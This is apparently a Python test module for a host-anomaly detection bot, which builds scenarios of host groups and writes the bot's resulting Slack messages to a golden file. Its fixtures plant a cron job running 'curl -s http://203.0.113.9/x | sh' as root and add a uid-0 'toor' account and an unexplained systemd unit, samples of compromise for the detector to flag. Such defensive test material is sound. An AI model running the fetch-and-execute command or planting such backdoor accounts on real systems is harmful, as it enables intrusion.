"""What is said of thin, split, changed and quiet groups: `python -m tests.views.situations` writes tests/golden/situations.txt.

Small groups are judged as they are in tests/analysis, and the message that the channel gets is written as it is read.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from bot import views
from bot.analysis import Case, judge
from bot.model import Host, Method, Missed, MissReason
from bot.views.slack_parts import spoken
from tests.analysis.cases import NOW, Rows, case, honest
from tests.views.examples import RUN

GOLDEN = Path(__file__).parents[1] / "golden" / "situations.txt"
Group = Sequence[tuple[Host, Rows]]


def _job(rows: Rows) -> None:
    rows["crontab"].append({"command": "root curl -s http://203.0.113.9/x | sh", "path": "/etc/cron.d/x"})


def _several(rows: Rows) -> None:
    _job(rows)
    rows["users"].append({"username": "toor", "uid": "0", "shell": "/bin/bash"})
    rows["systemd_units"].append({"id": "sync.service", "load_state": "loaded", "unit_file_state": "enabled"})


def _release(rows: Rows) -> None:
    rows["kernel_controls"].append({"name": "net.ipv4.ip_forward", "current_value": "1"})


def _group(count: int, change: Callable[[Rows], None] = _job, on: int = 1) -> Group:
    hosts = honest(count)
    for _, rows in hosts[:on]:
        change(rows)
    return hosts


def _older_image() -> Case:
    base = [(replace(about, image_id="ami-0"), rows) for about, rows in honest(3, 9, first=300)]
    return case(_group(5), baseline=base)


def _left_behind() -> Case:
    """One host is as the baseline, all others have a setting more."""
    hosts = honest(8)
    for _, rows in hosts[1:]:
        _release(rows)
    return case(hosts, baseline=honest(3, 9, first=300))


def _quiet() -> Case:
    silent = (Missed("i-0000000000000aaaa", MissReason.OFFLINE, "last heard of at 2026-08-03 09:12 UTC"),)
    return case(honest(6), baseline=honest(3, 9, first=300), missed=silent)


SITUATIONS: dict[str, Callable[[], Case]] = {
    "One host, a baseline of five": lambda: case(_group(1), baseline=honest(5, 9, first=300)),
    "One host, a baseline of one": lambda: case(_group(1), baseline=honest(1, 9, first=300)),
    "One host, no baseline": lambda: case(_group(1)),
    "Two hosts, no baseline": lambda: case(_group(2)),
    "Three hosts, no baseline": lambda: case(_group(3)),
    "Most of the group changed": lambda: case(_group(10, on=7), baseline=honest(3, 9, first=300)),
    "Most of the group changed, no baseline": lambda: case(_group(10, on=7)),
    "Four of thirty share what nothing in AWS explains": lambda: case(_group(30, _several, on=4)),
    "A baseline older than the image": _older_image,
    "A host that was left behind": _left_behind,
    "Nothing stands out, and one host is silent": _quiet,
    "Nothing stands out, compared with the baseline alone": lambda: case(
        honest(6), baseline=honest(3, 9, first=300), method=Method.BASELINE
    ),
}


def situations() -> str:
    """Return what the channel reads in each situation, a paragraph each; the run's own line is left out."""
    return "\n".join(f"{name}\n{_said(make())}" for name, make in SITUATIONS.items())


def _said(asked: Case) -> str:
    shown = views.verdict(judge(asked), RUN, now=NOW + timedelta(minutes=5))
    lines = [line for block in shown.blocks for line in spoken(block).splitlines()]
    return "".join(f"  {line}\n" for line in lines if line and not line.startswith("Run r-"))


if __name__ == "__main__":
    GOLDEN.write_text(situations(), encoding="utf-8")
